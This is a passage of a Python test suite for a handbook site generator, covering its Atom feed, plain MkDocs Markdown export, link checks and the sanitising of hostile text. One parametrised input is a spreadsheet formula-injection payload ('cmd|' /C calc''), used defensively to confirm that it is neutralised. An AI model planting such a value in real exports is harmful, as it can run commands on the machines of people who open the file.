    assert any(title in (entry.findtext(f"{ATOM}title")) for entry in tree.findall(f"{ATOM}entry")[1:])
    assert not tree.xpath("//*[local-name()='script']")


def test_hostile_words_are_harmless_in_markdown(poisoned):
    import markdown

    poison, sites = poisoned
    files = export_markdown(sites[-1])
    config = yaml.safe_load(files["mkdocs.yml"])
    assert "Draft" not in config["nav"] and config["nav"][0] == {"Home": "index.md"}
    extensions = [next(iter(each)) if isinstance(each, dict) else each for each in config["markdown_extensions"]]
    for path in (
        "docs/tools/learning-log.md",
        "docs/case-studies/a-case.md",
        "docs/iterations/0.2.md",
        "docs/glossary.md",
    ):
        front, body = re.fullmatch(r"---\n(.*?)\n---\n\n(.*)", files[path], re.S).groups()
        assert set(yaml.safe_load(front)) <= {"title", "description"}
        tree = lxml.html.fromstring(f"<div>{markdown.markdown(body, extensions=extensions)}</div>")
        assert not list(tree.iter("script", "img"))
        assert all(not (link.get("href") or "").startswith("javascript") for link in tree.iter("a"))
        seen = " ".join(tree.text_content().split())
        assert " ".join(re.sub(r"[\x00-\x1f]", "", typeset(plain(poison))).split())[:12] in re.sub(
            r"[\x00-\x1f]", "", seen
        ), path


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet="'=+-@\t\r\n ab＝", max_size=8))
def test_the_apostrophe_can_be_taken_off_again_without_loss(text):
    assert unprotected(protected(text)) == text
    assert not re.match(r"\s*[=+\-@＝\t\r\n]", protected(text))


@pytest.mark.parametrize("figure", ["-5", "-1,234.56", "+3.5", "-20%"])
def test_a_figure_below_nought_is_no_formula(figure):
    """With an apostrophe before it no spreadsheet would add it up."""
    assert protected(figure) == unprotected(figure) == figure


@pytest.mark.parametrize(
    "text", ["-2+3", "-5|x", "- a point", "+44 1632 960000", "-1+cmd|' /C calc'!A0", "-5\n=1", "\t-5"]
)
def test_what_only_begins_like_a_figure_is_protected(text):
    assert protected(text) == f"'{text}" and unprotected(protected(text)) == text


# -- the feed ----------------------------------------------------------------------------------------


def feed_of(sites: list[Site], project: Project) -> Any:
    """The feed as readers' programs see it, once the site stands somewhere, or nowhere yet."""
    moved = [Site(site.library, site.iteration, project) for site in sites]
    return read_feed(export_root(moved)["feed.xml"])


def test_the_feed_has_each_iteration_and_change(sites):
    read = feed_of(sites, Project("", "https://example.org/guide/"))
    assert read.feed.title and read.feed.author and read.feed.id.startswith("urn:uuid:")
    for entry in read.entries:
        assert entry.title.strip() and entry.id.startswith("urn:uuid:")
        assert [link.rel for link in entry.links] == ["alternate"]
        assert entry.content[0].type == "application/xhtml+xml" and entry.content[0].value.strip()
    ids = {entry.id for entry in read.entries}
    assert (
        len(ids)
        == len(read.entries)
        == sum(1 + len(site.iteration.changes) for site in sites) + len(sites[0].handbook.errata)
    )
    whole = [entry.title for entry in read.entries if entry.tags[0].term in ("draft", "released")]
    assert [re.search(r"\d+\.\d+", title)[0] for title in whole] == [site.iteration.version for site in reversed(sites)]


def test_every_entry_of_the_feed_has_a_moment_of_its_own_on_its_day(sites):
    read = feed_of(sites, Project())
    moments = [entry.updated for entry in read.entries]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", each) for each in (read.feed.updated, *moments))
    assert moments == sorted(set(moments), reverse=True) and read.feed.updated == moments[0]
    days = {site.iteration.version: str(site.iteration.about.released) for site in sites if not site.iteration.is_draft}
    for entry in read.entries:
        version = re.match(r"Iteration (\d+\.\d+)", entry.title)[1]
        if version in days and entry.tags[0].term != "erratum":
            assert entry.updated.startswith(days[version])
    first = {}
    for entry in read.entries:
        if entry.tags[0].term != "erratum":
            first.setdefault(re.match(r"Iteration (\d+\.\d+)", entry.title)[1], entry.tags[0].term)
    assert set(first.values()) <= {"draft", "released"}, "an iteration stands above its changes"


def test_what_is_announced_later_moves_no_other_entry(scratch):
    def moments() -> dict[str, str]:
        return {entry.id: entry.updated for entry in read_feed(export_root(sites_of(scratch.root))["feed.xml"]).entries}

    before = moments()
    scratch.write(
        "data/draft/changes/a-first.yml",
        {"id": "a-first", "kind": "reworded", "elements": ["x"], "summary": "One.", "why": "Two.", "order": 1},
    )
    after = moments()
    assert len(after) == len(before) + 1 and before.items() <= after.items()


def test_a_feed_says_where_it_stands_or_that_it_does_not_know(sites):
    known = feed_of(sites, Project("", "https://example.org/guide/")).feed
    assert {link.rel: link.href for link in known.links} == {
        "self": "https://example.org/guide/feed.xml",
        "alternate": "https://example.org/guide/",
    }
    assert "without the address" not in known.subtitle
    unknown = feed_of(sites, Project()).feed
    assert {link.rel: link.href for link in unknown.links} == {"self": "./feed.xml", "alternate": "./"}
    assert "built without the address of the site" in unknown.subtitle


def test_the_feeds_links_lead_to_pages_of_the_site(sites):
    for entry in feed_of(sites, Project()).entries:
        path, _, anchor = entry.link.partition("#")
        page = SITE / path / "index.html"
        assert page.is_file() and (not anchor or f'id="{anchor}"' in page.read_text("utf-8")), entry.link


def test_moving_the_site_announces_nothing_anew(sites):
    here, there = (feed_of(sites, project) for project in (Project(), Project("", "https://example.org/guide/")))
    assert [(each.id, each.updated) for each in here.entries] == [(each.id, each.updated) for each in there.entries]
    assert here.feed.id == there.feed.id == "urn:uuid:3d75c4c1-7fef-531a-a270-b1482b380f04", (
        "ids are for life: readers' programs know the feed by this one"
    )


def test_a_draft_keeps_its_ids_when_it_is_released(scratch):
    def ids() -> dict[str, str]:
        entries = read_feed(export_root(sites_of(scratch.root))["feed.xml"]).entries
        return {entry.id: entry.updated[:10] for entry in entries}

    scratch.change("data/draft/iteration.yml", lambda d: d.update(depicts_date="2024-11"))
    before = ids()
    assert set(before.values()) == {"2026-11-22"}  # never earlier than the iteration before
    scratch.change("data/draft/iteration.yml", lambda d: d.update(status="released", released=dt.date(2027, 3, 1)))
    after = ids()
    assert set(before) == set(after) and "2027-03-01" in after.values()


def test_a_correction_is_announced_and_exported(scratch):
    scratch.write(
        "data/errata/a-figure.yml",
        {
            "id": "a-figure",
            "iteration": "0.1",
            "element": "shape-the-approach",
            "says": "x",
            "should_say": "y",
            "why": "Because <z>.",
            "date": dt.date(2027, 5, 6),
        },
    )
    sites = sites_of(scratch.root)
    read = read_feed(export_root(sites)["feed.xml"])
    entry = read.entries[0]
    assert (entry.title, entry.link) == (
        "Iteration 0.1 (our reconstruction), correction: shape the approach",
        "0.1/steps/shape-the-approach/",
    )
    assert entry.updated == read.feed.updated and entry.updated.startswith("2027-05-06T")
    assert "Because &lt;z&gt;." in entry.content[0].value
    counts = [len(json.loads(export_version(site)["data/handbook.json"])["errata"]) for site in sites]
    assert counts == [1, 0]


# -- plain Markdown ----------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=["oldest", "draft"])
def plainly_built(request, sites, tmp_path_factory) -> tuple[Site, dict[str, str], Path]:
    """A version's Markdown, built by MkDocs alone: none of our plugins, hooks or templates."""
    site = sites[0] if request.param == "oldest" else next(each for each in sites if each.iteration.is_draft)
    site = Site(site.library, site.iteration, Project())
    files, folder = export_markdown(site), tmp_path_factory.mktemp("plain")
    for name, text in files.items():
        path = folder / "source" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "mkdocs",
            "build",
            "--strict",
            "--config-file",
            str(folder / "source" / "mkdocs.yml"),
            "--site-dir",
            str(folder / "built"),
        ],
        cwd=folder,
        capture_output=True,
        text=True,
        env={key: value for key, value in os.environ.items() if not key.startswith("HANDBOOK_")},
    )
    assert done.returncode == 0 and "WARNING" not in done.stderr, done.stdout + done.stderr
    return site, files, folder / "built"


def test_the_plain_configuration_asks_for_nothing_of_ours(plainly_built):
    config = yaml.safe_load(plainly_built[1]["mkdocs.yml"])
    assert not {"plugins", "hooks", "theme", "extra_css", "extra_javascript"} & set(config)
    ours = yaml.safe_load(re.sub(r"!\S+", "", (ROOT / "mkdocs.yml").read_text("utf-8")))
    assert config["markdown_extensions"] == [
        each for each in ours["markdown_extensions"] if not str(each).startswith("macros.")
    ]


def test_every_page_of_the_version_is_exported(plainly_built):
    site, files, built = plainly_built
    own = {f"docs/{path}" for path in site.library.paths[site.iteration.version]}
    assert own <= set(files) and {f"docs/{page.path}" for page in site.pages} <= set(files)
    pages = [name for name in files if name.endswith(".md")]
    assert len(list(built.rglob("*.html"))) == len(pages) + 1  # and 404.html
    for name in pages:
        assert not re.search(r"\{\{|\{%|render_macros", files[name]), name


def test_what_is_exported_is_what_is_shown(plainly_built):
    """Page by page, the text of the plain build is the text of the site."""
    site, files, built = plainly_built

    def words(tree: Any) -> str:
        for drawn in tree.xpath(
            "//figure[starts-with(@class, 'picture')] | //svg[@class='stop'] | //form[@class='filter']"
            "| //*[contains(@class, 'no-print')] | //script"
        ):
            drawn.drop_tree()  # left out of the export: what they say stands in words beside them, or needs a script
        return re.sub(r"\s+", "", tree.text_content())

    for name in files:
        if not name.endswith(".md"):
            continue
        where = re.sub(r"(^|/)index\.md$|\.md$", "", name.removeprefix("docs/")) + "/"
        shown = (
            lxml.html.parse(str(SITE / site.folder / where.lstrip("/") / "index.html")).getroot().xpath("//article")[0]
        )
        made = lxml.html.parse(str(built / where.lstrip("/") / "index.html")).getroot().xpath("//*[@role='main']")[0]
        assert words(made) == words(shown), name


def test_no_link_of_the_plain_build_is_dead(plainly_built):
    from urllib.parse import unquote, urldefrag, urljoin

    _, _, built = plainly_built
    base = "https://here.invalid/"
    for page in built.rglob("*.html"):
        if page.name == "404.html":
            continue
        here = base + page.relative_to(built).as_posix().removesuffix("index.html")
        for link in lxml.html.parse(str(page)).getroot().iter("a"):
            target = urldefrag(urljoin(here, link.get("href") or ""))[0]
            if target.startswith(base):
                path = built / unquote(target.removeprefix(base))
                assert path.is_file() or (path / "index.html").is_file(), (page, link.get("href"))


def test_links_that_leave_the_version_lead_to_the_site_where_it_is_known(sites):
    known = Site(sites[0].library, sites[0].iteration, Project("", "https://example.org/guide/"))
    files = export_markdown(known)
    assert (
        '<a href="https://example.org/guide/0.1/data/handbook.json">handbook.json</a>'
        in files["docs/about/open-data.md"]
    )
    assert '<a href="https://example.org/guide/feed.xml">feed.xml</a>' in files["docs/about/open-data.md"]
    elsewhere = [text for text in files.values() if "https://example.org/guide/0.2/" in text]
    assert elsewhere and not any(re.search(r'<a href="(?:\.\./)+\d', text) for text in files.values())
